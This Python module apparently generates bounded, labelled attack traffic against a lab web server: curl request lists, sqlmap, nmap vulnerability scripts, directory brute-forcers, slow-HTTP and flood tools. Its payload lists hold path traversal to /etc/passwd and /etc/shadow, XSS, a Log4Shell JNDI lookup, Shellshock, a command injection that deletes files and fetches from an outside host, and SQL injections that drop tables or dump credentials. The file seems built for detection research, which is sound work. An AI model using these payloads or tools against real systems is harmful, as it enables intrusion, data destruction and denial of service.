"""Attackers of the web server: scanners, injections, slow requests and floods, all bounded.

See sqlmap(1), dirb(1), slowhttptest(1), siege(1), and `--help` of ffuf, gobuster, wfuzz, whatweb
and wapiti.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

from lab import estate
from lab.label import Role
from lab.take import Take

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from lab.wordlist import Wordlists

_PATHS = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-config.php.bak",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/sh.php",
    "/phpmyadmin/scripts/setup.php",
    "/phpMyAdmin/index.php",
    "/administrator/index.php",
    "/manager/html",
    "/solr/admin/info/system",
    "/actuator/env",
    "/server-status",
    "/cgi-bin/test.cgi",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1",
    "/_ignition/execute-solution",
    "/boaform/admin/formLogin",
    "/HNAP1",
    "/owa/auth/logon.aspx",
    "/struts2-showcase/index.action",
    "/hudson",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x",
    "/static/../../../../etc/passwd",
    "/products/../../../../../../etc/shadow",
    "/download?file=....//....//....//etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/search?q=$%7Bjndi:ldap://198.51.100.1/a%7D",
    "/?x=() { :; }; echo vulnerable".replace(" ", "%20"),
)
_INJECTIONS = (
    "1'%20OR%20'1'='1",
    "1%20UNION%20SELECT%20NULL,NULL,NULL--",
    "1%20UNION%20ALL%20SELECT%20user,password%20FROM%20mysql.user--",
    "1;%20DROP%20TABLE%20users--",
    "1%20AND%20SLEEP(5)--",
    "1%20AND%201=CONVERT(int,(SELECT%20@@version))--",
    "1;%20EXEC%20xp_cmdshell('dir')--",
    "1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20DATABASE())))--",
    "-1%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--",
    "1%20INTO%20OUTFILE%20'/tmp/x'--",
)
_PARAMETERS = ("products/view?id", "search?q", "products/list?page", "news?item", "login?user")
_WEB_SCRIPTS = (
    "http-methods",
    "http-headers",
    "http-git",
    "http-shellshock",
    "http-vuln-cve*",
    "http-phpmyadmin-dir-traversal",
    "http-passwd",
    "http-webdav-scan",
    "http-open-proxy",
    "http-trace",
    "http-robots.txt",
    "http-title",
)
_URL, _URL_V6 = f"http://{estate.WEB}", f"http://[{estate.WEB_V6}]"
_PARAMETERS = ("products/view?id", "search?q", "products/list?page", "news?item", "login?user")
AGENTS = (
    "Mozilla/5.00 (Nikto/2.1.6)",
    "zgrab/0.x",
    "Go-http-client/1.1",
    "python-requests/2.28.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
)
_LISTS, _V6_LIST = 5, 4
"""Lists of requests, one for each curl; the one that goes over IPv6."""


def takes(
    rng: random.Random, work: Path, words: Wordlists, tools: frozenset[str]
) -> Iterator[Take]:
    """Yield the attackers of the web server, as far as their tools take part."""
    for number in range(_LISTS):
        yield _curl(rng, work, number, v6=number == _V6_LIST)
    for number in range(3):
        yield _sqlmap(rng, work, number)
        yield _slow_http(rng, ("-H", "-B", "-X")[number])
    for _ in range(2):
        yield _nmap(rng)
        yield _dirb(rng, words)
        yield _ffuf(rng, words, _URL)
        yield _gobuster(rng, words)
        yield _flood(rng)
    yield _ffuf(rng, words, _URL_V6)
    yield _wfuzz(rng, words)
    yield _whatweb(rng)
    if "wapiti" in tools:
        for number in range(3):
            yield _wapiti(rng, work, number)


def _scanner(tool: str, *command: str) -> Take:
    return Take(Role.WEB_SCANNER, tool, (tool, *command))


def _curl(rng: random.Random, work: Path, number: int, *, v6: bool) -> Take:
    rate = ("--rate", f"{rng.choice((60, 120, 300, 900))}/m", "-m", "10")
    options = ("-s", *rate, "--path-as-is", "--globoff")
    command = ("curl", *options, "-K", str(_list(work, number)))
    return Take(Role.WEB_SCANNER, "curl", command, v6=v6)


def _list(work: Path, number: int) -> Path:
    return work / f"requests-{number}"


def write_requests(work: Path, seed: int) -> None:
    """Write the lists of requests into `work`, each with an agent and an order of its own."""
    for number in range(_LISTS):
        rng = random.Random(f"{seed}/requests/{number}")
        urls = requests(rng, _URL_V6 if number == _V6_LIST else _URL)
        urls = urls[: rng.randint(len(urls) // 4, len(urls))]
        _list(work, number).write_text(_curl_config(urls, rng), encoding="ascii")


def requests(rng: random.Random, server: str = _URL) -> list[str]:
    """Return the URLs of a web scan, each once, in an order of its own."""
    return [f"{server}{target}" for target in targets(rng)]


def targets(rng: random.Random) -> list[str]:
    """Return what is asked for: well-known probes and injections into each parameter."""
    probes = rng.sample(_PATHS, len(_PATHS))
    injected = [f"/{name}={text}" for name in _PARAMETERS for text in _INJECTIONS]
    halves = [probes, rng.sample(injected, len(injected))]
    rng.shuffle(halves)
    return [target for half in halves for target in half]


def _curl_config(urls: Sequence[str], rng: random.Random) -> str:
    """Return a curl config; most scanners make one connection for each request."""
    close = 'header = "Connection: close"\n' if rng.random() < 0.7 else ""
    head = f'user-agent = "{rng.choice(AGENTS)}"\n{close}'
    escaped = (url.replace("\\", "\\\\") for url in urls)
    return head + "".join(f'url = "{url}"\noutput = "/dev/null"\n' for url in escaped)


def _nmap(rng: random.Random) -> Take:
    scan = ("-n", "-Pn", "-sT", "-p", "80", "--max-rate", str(rng.choice((10, 30))))
    scripts = ",".join(rng.sample(_WEB_SCRIPTS, rng.randint(4, len(_WEB_SCRIPTS))))
    return _scanner("nmap", *scan, "--script", scripts, estate.WEB)


def _sqlmap(rng: random.Random, work: Path, number: int) -> Take:
    target = rng.choice(("products/view?id=7", "search?q=chairs", "products/list?page=2"))
    effort = ("--level", str(rng.randint(1, 3)), "--delay", str(rng.choice((0, 0.1, 0.4))))
    agent = ("--random-agent",) if rng.random() < 0.5 else ()
    folder = ("--output-dir", str(work / f"sqlmap-{number}"), "--flush-session", "--batch")
    return _scanner("sqlmap", "-u", f"{_URL}/{target}", *effort, *agent, *folder)


def _dirb(rng: random.Random, words: Wordlists) -> Take:
    delay = ("-z", str(rng.choice((5, 50, 200))))
    return _scanner("dirb", f"{_URL}/", str(words.paths), "-S", "-r", "-w", *delay)


def _ffuf(rng: random.Random, words: Wordlists, server: str) -> Take:
    pace = ("-t", str(rng.randint(1, 6)), "-p", str(rng.choice((0.02, 0.1, 0.5))))
    command = ("ffuf", "-s", "-u", f"{server}/FUZZ", "-w", str(words.paths), *pace)
    return Take(Role.WEB_SCANNER, "ffuf", command, v6=server == _URL_V6)


def _gobuster(rng: random.Random, words: Wordlists) -> Take:
    pace = ("-t", str(rng.randint(1, 4)), "--delay", f"{rng.choice((20, 100, 400))}ms")
    target = ("-u", rng.choice((_URL, f"https://{estate.WEB}")), "-k", "-w", str(words.paths))
    return _scanner("gobuster", "dir", "-q", "-z", *target, *pace)


def _wfuzz(rng: random.Random, words: Wordlists) -> Take:
    pace = ("-t", str(rng.randint(1, 4)), "-s", str(rng.choice((0.05, 0.3))))
    url = rng.choice((f"{_URL}/FUZZ", f"{_URL}/search?q=FUZZ", f"{_URL}/FUZZ.bak"))
    return _scanner("wfuzz", "-w", str(words.paths), "--hc", "404", *pace, url)


def _whatweb(rng: random.Random) -> Take:
    hosts = rng.sample((estate.WEB, estate.API), rng.randint(1, 2))
    return _scanner("whatweb", "--color=never", "-a", str(rng.choice((3, 4))), *hosts)


def _wapiti(rng: random.Random, work: Path, number: int) -> Take:
    modules = ",".join(rng.sample(("sql", "xss", "exec", "file", "backup", "crlf", "ssrf"), 4))
    limits = ("--max-scan-time", "80", "--scope", "domain", "-d", str(rng.randint(1, 3)))
    folder = work / f"wapiti-{number}"
    store = ("--store-session", str(folder), "-f", "json", "-o", str(folder / "report"))
    return _scanner("wapiti", "-u", f"{_URL}/", "-m", modules, *limits, *store)


def _slow_http(rng: random.Random, kind: str) -> Take:
    """Few connections that send or read a little at a time."""
    many = ("-c", str(rng.choice((20, 50, 90))), "-r", str(rng.choice((3, 10, 20))))
    pace = ("-i", str(rng.choice((3, 5, 8))), "-l", str(rng.choice((25, 50))), "-p", "2")
    reading = ("-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "1") if kind == "-X" else ()
    page = "/static/manual.pdf" if kind == "-X" else "/login"
    command = ("slowhttptest", kind, *many, *pace, *reading, "-u", f"{_URL}{page}")
    return Take(Role.SLOW_HTTP, "slowhttptest", command)


def _flood(rng: random.Random) -> Take:
    many = ("-c", str(rng.randint(2, 8)), "-r", str(rng.randint(20, 80)))
    pace = ("-b",) if rng.random() < 0.3 else ("-d", str(rng.choice((0.2, 0.5))))
    page = rng.choice(("/", "/search?q=garden+chairs", "/static/logo.png"))
    command = ("siege", "-q", *many, *pace, f"{_URL}{page}")
    return Take(Role.HTTP_FLOOD, "siege", command)
